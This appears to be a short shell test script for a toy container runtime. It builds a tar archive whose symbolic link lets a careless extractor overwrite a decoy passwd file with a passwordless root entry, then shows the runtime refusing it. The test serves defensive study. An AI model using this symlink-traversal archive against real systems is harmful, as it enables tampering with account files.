# An archive that writes through a symbolic link: a careless program, and ours. A decoy is hit.
#: stage 8
#- mini-docker image bootstrap busybox
## archive
mkdir evil; cd evil
mkdir -p host/etc; echo 'root:x:0:0' > host/etc/passwd
ln -s $PWD/host/etc etc; tar -cf evil.tar etc; rm etc
mkdir etc; echo 'evil::0:0' > etc/passwd; tar -rf evil.tar etc/passwd
tar -tvf evil.tar | sed 's/.*:.. //'
## careless
mkdir layer; python3 -c 'import tarfile; tarfile.open("evil.tar").extractall("layer")'
cat host/etc/passwd
## mend
echo 'root:x:0:0' > host/etc/passwd
ls /var/lib/mini-docker/layers | wc -l
mini-docker import evil.tar
cat host/etc/passwd; ls /var/lib/mini-docker/layers | wc -l
cd ..
## order
mkdir order; cd order
mkdir base fix view; echo 'root::0:0' > base/passwd; touch base/debug
echo 'root:x:0:0' > fix/passwd; mknod fix/debug c 0 0
mount -t overlay overlay -o lowerdir=base:fix view; ls view; cat view/passwd; umount view
mount -t overlay overlay -o lowerdir=fix:base view; ls view; cat view/passwd; umount view
cd ..
